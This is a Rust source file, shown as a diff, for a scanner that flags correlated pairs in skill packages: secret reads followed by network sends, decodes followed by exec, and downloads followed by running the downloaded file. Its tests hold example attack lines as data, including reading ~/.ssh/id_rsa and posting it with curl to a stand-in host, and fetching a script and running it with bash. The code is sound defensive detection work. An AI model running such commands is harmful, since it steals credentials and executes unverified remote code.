@@ -1,0 +1,312 @@
+//! Pairs that mean more together than apart: a secret read and a network send, a decode and
+//! an exec, a download and running the downloaded file. Each pair becomes one finding at
+//! the pair rule's severity, pointing at both places; its halves are not reported again.
+
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use super::catalogue::{self, helpers, ids};
+use super::rule::Signal;
+
+/// One half of a possible pair: a signal rule's hit at full weight.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Half {
+    pub signal: Signal,
+    /// Index of the file in the skill's scan order.
+    pub file: usize,
+    /// 0-based line.
+    pub line: usize,
+    /// The rule that matched.
+    pub rule: &'static str,
+    /// Whether the file is a script or the line sits in a code block (code that runs).
+    pub runs: bool,
+    pub text: String,
+}
+
+/// A correlated pair.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Pair {
+    pub rule: &'static str,
+    /// The first half (read, decode, download).
+    pub first: Half,
+    /// The second half (send, exec, run): where the finding is reported.
+    pub second: Half,
+    /// Levels to lower the pair by, and why.
+    pub lowered: Option<(u8, &'static str)>,
+}
+
+/// Whether any of `halves` can start a pair (worth running the second-half rules for).
+pub fn has_first_halves(halves: &[Half]) -> bool {
+    halves.iter().any(|h| {
+        matches!(
+            h.signal,
+            Signal::SecretRead | Signal::Decode | Signal::Download
+        )
+    })
+}
+
+/// Secret reads strong enough to pair with a send in another file: credential stores and
+/// environment dumps, not a project's `.env`.
+fn strong_secret(rule: &str) -> bool {
+    matches!(
+        rule,
+        "ssh-key-read" | "credential-store-read" | "hermes-secrets-read" | "env-dump"
+    )
+}
+
+/// Rules that already describe decode-and-exec on one line.
+fn covers_decode_exec(rule: &str) -> bool {
+    matches!(rule, "decode-pipe-exec" | "exec-decoded")
+}
+
+/// Every pair among `halves`, each first half used at most once. `texts` are the skill's
+/// files by index, to look for a checksum check between a download and its run.
+pub fn pairs(halves: &[Half], texts: &[&str]) -> Vec<Pair> {
+    let mut out = Vec::new();
+    let of = |s: Signal| halves.iter().filter(move |h| h.signal == s);
+    for read in of(Signal::SecretRead) {
+        let same_file = of(Signal::NetworkSend)
+            .filter(|send| send.file == read.file)
+            .filter(|send| send.line + 3 >= read.line && send.line <= read.line + 40)
+            .min_by_key(|send| send.line.abs_diff(read.line));
+        let other_file = || {
+            of(Signal::NetworkSend).find(|send| {
+                send.file != read.file && strong_secret(read.rule) && read.runs && send.runs
+            })
+        };
+        if let Some(send) = same_file.or_else(other_file) {
+            out.push(Pair {
+                rule: ids::SECRET_READ_THEN_SEND,
+                first: read.clone(),
+                second: send.clone(),
+                lowered: None,
+            });
+        }
+    }
+    for decode in of(Signal::Decode) {
+        if covers_decode_exec(decode.rule) {
+            continue;
+        }
+        let target = assigned_name(&decode.text);
+        let exec = of(Signal::Exec)
+            .filter(|exec| exec.file == decode.file && !covers_decode_exec(exec.rule))
+            .find(|exec| match &target {
+                Some(name) => {
+                    exec.line >= decode.line
+                        && exec.line <= decode.line + 30
+                        && mentions(&exec.text, name)
+                        && (exec.line > decode.line || exec.text != decode.text)
+                }
+                None => exec.line >= decode.line && exec.line <= decode.line + 3,
+            });
+        if let Some(exec) = exec {
+            out.push(Pair {
+                rule: ids::DECODE_THEN_EXEC,
+                first: decode.clone(),
+                second: exec.clone(),
+                lowered: None,
+            });
+        }
+    }
+    for download in of(Signal::Download) {
+        let Some(name) = download_target(&download.text) else {
+            continue;
+        };
+        let run = of(Signal::RunFile).find(|run| {
+            (run.file != download.file || run.line >= download.line)
+                && run_target(&run.text).is_some_and(|t| t == name)
+        });
+        if let Some(run) = run {
+            let verified = texts.get(run.file).is_some_and(|text| {
+                text.lines()
+                    .any(|l| l.contains(name.as_str()) && CHECKSUM.is_match(l))
+            });
+            let lowered = if verified {
+                Some((2, "checked against a checksum or signature before running"))
+            } else if helpers::is_vendor_installer(&download.text) {
+                Some((
+                    1,
+                    "a vendor's documented installer over HTTPS; still unverified code",
+                ))
+            } else {
+                None
+            };
+            out.push(Pair {
+                rule: ids::DOWNLOAD_THEN_EXEC,
+                first: download.clone(),
+                second: run.clone(),
+                lowered,
+            });
+        }
+    }
+    out.sort_by_key(|p| (p.second.file, p.second.line, catalogue::index_of(p.rule)));
+    out
+}
+
+static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"^\s*(?:(?:const|let|var|my)\s+)?\$?([A-Za-z_]\w*)\s*[:=]").expect("static regex")
+});
+
+static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:\s-o\s*|\s--output\s+|\s>\s*|\s-O\s+|-OutFile\s+|urlretrieve\s*\([^,\n]*,\s*)["']?([^\s"'|;&)]+)"#,
+    )
+    .expect("static regex")
+});
+
+static URL_NAME: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"https?://[^\s"'|;&)]*/([^/\s"'|;&)?#]+)"#).expect("static regex")
+});
+
+static RUN: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r#"(?:\b(?:ba|z)?sh\s+|\bpython[0-9.]*\s+|\b(?:perl|node|ruby)\s+|\bchmod\s+\S+\s+|\bsource\s+|(?:^|[\s;&|(])\.\s+|(?:^|[\s;&|(])(?:\./))["']?([^\s"'|;&)]+)"#,
+    )
+    .expect("static regex")
+});
+
+static CHECKSUM: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"\b(?:sha(?:1|224|256|384|512)sum|shasum|md5sum|b2sum|gpg\s+--verify|cosign\s+verify|minisign)\b")
+        .expect("static regex")
+});
+
+/// The variable a line assigns to (`payload = base64.b64decode(…)` → `payload`).
+fn assigned_name(line: &str) -> Option<String> {
+    ASSIGNED.captures(line).map(|c| c[1].to_string())
+}
+
+fn mentions(line: &str, name: &str) -> bool {
+    line.match_indices(name).any(|(i, _)| {
+        let before = line[..i].chars().next_back();
+        let after = line[i + name.len()..].chars().next();
+        !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
+            && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
+    })
+}
+
+fn basename(path: &str) -> String {
+    path.trim_matches(['"', '\''])
+        .rsplit('/')
+        .next()
+        .unwrap_or(path)
+        .to_string()
+}
+
+/// The file a download line writes: `-o FILE`, `> FILE`, `-O FILE`, or the URL's last part.
+fn download_target(line: &str) -> Option<String> {
+    if let Some(c) = DOWNLOAD.captures(line) {
+        let name = basename(&c[1]);
+        if name != "-" && !name.is_empty() {
+            return Some(name);
+        }
+    }
+    URL_NAME.captures(line).map(|c| basename(&c[1]))
+}
+
+/// The file a run line runs.
+fn run_target(line: &str) -> Option<String> {
+    RUN.captures_iter(line)
+        .map(|c| basename(&c[1]))
+        .find(|name| !name.starts_with('-') && !name.is_empty())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn half(signal: Signal, file: usize, line: usize, rule: &'static str, text: &str) -> Half {
+        Half {
+            signal,
+            file,
+            line,
+            rule,
+            runs: true,
+            text: text.to_string(),
+        }
+    }
+
+    #[test]
+    fn secret_then_send() {
+        let halves = vec![
+            half(
+                Signal::SecretRead,
+                0,
+                4,
+                "ssh-key-read",
+                "key=$(cat ~/.ssh/id_rsa)",
+            ),
+            half(
+                Signal::NetworkSend,
+                0,
+                5,
+                "sig-network-send",
+                "curl -d \"$key\" https://x",
+            ),
+        ];
+        let found = pairs(&halves, &[]);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].rule, ids::SECRET_READ_THEN_SEND);
+        assert_eq!(found[0].second.line, 5);
+    }
+
+    #[test]
+    fn weak_secrets_do_not_pair_across_files() {
+        let halves = vec![
+            half(Signal::SecretRead, 0, 4, "secrets-file-read", "cat .env"),
+            half(
+                Signal::NetworkSend,
+                1,
+                5,
+                "sig-network-send",
+                "curl -d @x https://x",
+            ),
+        ];
+        assert!(pairs(&halves, &[]).is_empty());
+    }
+
+    #[test]
+    fn decode_then_exec_follows_the_variable() {
+        let halves = vec![
+            half(
+                Signal::Decode,
+                0,
+                2,
+                "sig-decode",
+                "payload = base64.b64decode(BLOB)",
+            ),
+            half(Signal::Exec, 0, 9, "os-system", "os.system('ls')"),
+            half(Signal::Exec, 0, 12, "exec-string", "exec(payload)"),
+        ];
+        let found = pairs(&halves, &[]);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].second.line, 12);
+    }
+
+    #[test]
+    fn download_then_run_by_file_name() {
+        let halves = vec![
+            half(
+                Signal::Download,
+                0,
+                1,
+                "sig-download",
+                "curl -sL https://x.example/a.sh -o /tmp/a.sh",
+            ),
+            half(Signal::RunFile, 1, 3, "sig-run-file", "bash /tmp/b.sh"),
+            half(Signal::RunFile, 1, 4, "sig-run-file", "bash /tmp/a.sh"),
+        ];
+        let found = pairs(&halves, &[]);
+        assert_eq!(found.len(), 1);
+        assert_eq!((found[0].second.file, found[0].second.line), (1, 4));
+        assert_eq!(found[0].lowered, None);
+        assert_eq!(
+            download_target("wget https://x.example/run.sh"),
+            Some("run.sh".into())
+        );
+        assert_eq!(
+            run_target("chmod +x run.sh && ./run.sh"),
+            Some("run.sh".into())
+        );
+    }
+}
